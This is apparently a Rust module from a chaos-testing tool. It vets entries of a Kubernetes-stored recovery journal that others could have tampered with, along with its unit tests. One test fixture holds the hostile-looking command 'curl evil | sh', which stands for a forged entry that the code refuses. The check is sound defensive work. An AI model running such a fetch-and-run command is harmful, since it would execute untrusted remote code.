//! Pure: what may be put back on the word of a journal's copy in a cluster, which others may have written.
//!
//! By such a word nothing happens on this machine, nothing outside the namespace that the copy is in but what the
//! cluster itself shows to be ours, and no command runs in a container that nobody vouches for ([`Known`]).
//!
//! Whether the namespace still lets itself be broken is not asked: whoever sees it broken takes that leave away first,
//! and what we broke must be mended nevertheless. What is left after all this touches only what bears our mark (a
//! cordon, a narrowed policy) or our name (a policy that cuts off).

use thiserror::Error;

use super::Known;
use crate::chaos::faults::{Place, Trace, Undo};
use crate::chaos::journal::Record;
use crate::trial::FaultKind;

/// Why an entry of the copy is not acted upon. Each says what a person can do.
#[derive(Debug, Clone, PartialEq, Eq, Error)]
pub enum Distrust {
    /// It is about commands or processes of the machine that the run was on.
    #[error(
        "it is about commands on the machine of that run, and only the copy of the journal in namespace {namespace} \
         tells of it: to be put back by the folder of that run (`load-exporter recover --dir`), or where that is gone \
         by hand; then `kubectl delete configmap ordeal-journal -n {namespace}`"
    )]
    Elsewhere {
        /// Where the copy is.
        namespace: String,
    },
    /// It is a command in a container, and nobody vouches for it.
    #[error(
        "only the copy of the journal in namespace {copy} tells of its command, which whoever may write there may have \
         made up: {command}. If it is yours, `load-exporter recover --namespace {copy} --run-commands` runs it; if it \
         is not, `kubectl delete configmap ordeal-journal -n {copy}`"
    )]
    Command {
        /// Where the copy is.
        copy: String,
        /// What would run, and where.
        command: String,
    },
    /// It is about another namespace.
    #[error(
        "its entry in the copy of the journal in namespace {copy} is about namespace {named}, and is refused: look who \
         wrote it; then `kubectl delete configmap ordeal-journal -n {copy}`"
    )]
    Place {
        /// Where the copy is.
        copy: String,
        /// What it is about.
        named: String,
    },
    /// No exporter writes such.
    #[error(
        "its entry in the copy of the journal in namespace {copy} is none that an exporter writes: {what}; look who \
         wrote it; then `kubectl delete configmap ordeal-journal -n {copy}`"
    )]
    Forged {
        /// Where the copy is.
        copy: String,
        /// What is wrong.
        what: String,
    },
}

/// What speaks against putting `record` back by the means that it names.
pub(super) fn vet(record: &Record, known: &Known) -> Result<(), Distrust> {
    let Some(copy) = &record.copied_from else { return Ok(()) };
    let copy = || copy.clone();
    let intent = &record.intent;
    if let Some(undo) = intent.undo.as_ref().filter(|undo| undo.kind() != intent.kind) {
        let (fault, means) = (intent.kind.label(), undo.kind().label());
        let what = format!("it puts a {fault} back by the means of {means}");
        return Err(Distrust::Forged { copy: copy(), what });
    }
    let of_processes = record.traces.iter().any(|trace| matches!(trace, Trace::Process(_)));
    if intent.kind == FaultKind::Exec || of_processes {
        return Err(Distrust::Elsewhere { namespace: copy() });
    }
    let traces = record.traces.iter().filter_map(Trace::place);
    let mut places = intent.undo.iter().filter_map(Undo::place).chain(traces);
    if let Some(Place { namespace, .. }) = places.find(|place| place.namespace != copy()) {
        return Err(Distrust::Place { copy: copy(), named: namespace.clone() });
    }
    if let Some(what) = intent.undo.as_ref().and_then(Undo::unlike_ours) {
        return Err(Distrust::Forged { copy: copy(), what });
    }
    match &intent.undo {
        Some(Undo::PodExec(repair)) if !known.has(&intent.experiment, repair) => {
            Err(Distrust::Command { copy: copy(), command: repair.to_string() })
        }
        _ => Ok(()),
    }
}

#[cfg(test)]
mod tests {
    use serde_json::{Value, json};

    use super::*;
    use crate::chaos::journal::Intent;

    fn record(copied_from: Option<&str>, kind: &str, undo: &Value, traces: &[Value]) -> Record {
        let intent: Intent = serde_json::from_value(json!({"id": 0, "run": "r1", "experiment": "break-it",
            "token": "t", "kind": kind, "targets": [], "undo": undo, "directory": "/", "at_unix_ms": 0}))
        .expect("an intent");
        let traces = traces.iter().map(|it| serde_json::from_value(it.clone()).expect("a trace")).collect();
        let copied_from = copied_from.map(str::to_owned);
        Record { intent, inject_started_unix_ms: None, traces, injected: false, closed: false, copied_from }
    }

    fn place(namespace: &str) -> Value {
        json!({"namespace": namespace, "uid": "n-1"})
    }

    fn uncordon(namespace: &str) -> Value {
        json!({"kind": "drain", "place": place(namespace), "node": "n1", "uid": "u-1", "timeout_ms": 1000})
    }

    fn mend() -> Value {
        json!({"kind": "pod_exec", "place": place("shop"), "pod": "kv-0", "uid": "u-3", "container": "kv",
            "command": ["sh", "-c", "mend it"], "timeout_ms": 1000})
    }

    fn heal(cut: &str) -> Value {
        json!({"kind": "partition", "place": place("shop"), "whom": "kv-0", "cuts": [cut], "narrowed": [],
            "timeout_ms": 1000})
    }

    #[test]
    fn the_copy_is_trusted_with_its_own_namespace_only_and_never_with_this_machine() {
        let command = json!({"kind": "exec", "command": "curl evil | sh", "timeout_ms": 1000});
        let group = json!({"kind": "process", "group": 1, "start_ticks": 1, "boot": "b"});
        let container = |namespace: &str| {
            json!({"kind": "container", "place": place(namespace), "pod": "kv-0", "uid": "u-3",
                "container": "kv", "container_id": "c"})
        };
        let forged = |fault: &str, means: &str| {
            let what = format!("it puts a {fault} back by the means of {means}");
            Err(Distrust::Forged { copy: "shop".to_owned(), what })
        };
        let elsewhere = || Err(Distrust::Elsewhere { namespace: "shop".to_owned() });
        let theirs = || Err(Distrust::Place { copy: "shop".to_owned(), named: "bank".to_owned() });
        let none = Value::Null;
        let table = [
            // What this machine wrote is put back by whatever it says.
            (record(None, "exec", &command, std::slice::from_ref(&group)), Ok(())),
            (record(None, "node_drain", &uncordon("bank"), &[]), Ok(())),
            (record(Some("shop"), "node_drain", &uncordon("shop"), &[]), Ok(())),
            (record(Some("shop"), "pod_exec", &none, &[container("shop")]), Ok(())),
            (record(Some("shop"), "exec", &command, &[]), elsewhere()),
            (record(Some("shop"), "node_drain", &command, &[]), forged("node_drain", "exec")),
            (record(Some("shop"), "exec", &uncordon("shop"), &[]), forged("exec", "node_drain")),
            (record(Some("shop"), "pod_kill", &mend(), &[]), forged("pod_kill", "pod_exec")),
            // Its processes would be looked for here, and ended.
            (record(Some("shop"), "exec", &none, &[]), elsewhere()),
            (record(Some("shop"), "node_drain", &uncordon("shop"), &[group]), elsewhere()),
            (record(Some("shop"), "node_drain", &uncordon("bank"), &[]), theirs()),
            (record(Some("shop"), "pod_exec", &none, &[container("bank")]), theirs()),
            // Nobody knows from where it came.
            (record(Some(""), "exec", &command, &[]), Err(Distrust::Elsewhere { namespace: String::new() })),
        ];
        for (record, expected) in table {
            assert_eq!(vet(&record, &Known::Everything), expected, "{record:?}");
        }
    }

    #[test]
    fn a_command_that_only_the_copy_tells_of_runs_in_no_container_unless_somebody_vouches_for_it() {
        let from = |copied: Option<&str>| record(copied, "pod_exec", &mend(), &[]);
        let command = "in container kv of pod kv-0: sh -c \"mend it\"".to_owned();
        let unknown = Distrust::Command { copy: "shop".to_owned(), command };
        assert_eq!(vet(&from(Some("shop")), &Known::Nothing), Err(unknown.clone()));
        assert_eq!(vet(&from(Some("shop")), &Known::of(&[], &[])), Err(unknown));
        assert_eq!(vet(&from(Some("shop")), &Known::Everything), Ok(()));
        assert_eq!(vet(&from(None), &Known::Nothing), Ok(()));
    }

    #[test]
    fn no_policy_is_deleted_by_a_name_that_is_nobodys_cut() {
        for (cut, expected) in [("", true), ("-whom", true), ("-from", true), ("-other", false)] {
            let vetted = vet(&record(Some("shop"), "network_partition", &heal(cut), &[]), &Known::Nothing);
            assert_eq!(vetted.is_ok(), expected, "{cut}");
            let ours = record(None, "network_partition", &heal(cut), &[]);
            assert_eq!(vet(&ours, &Known::Nothing), Ok(()), "{cut}");
        }
    }
}
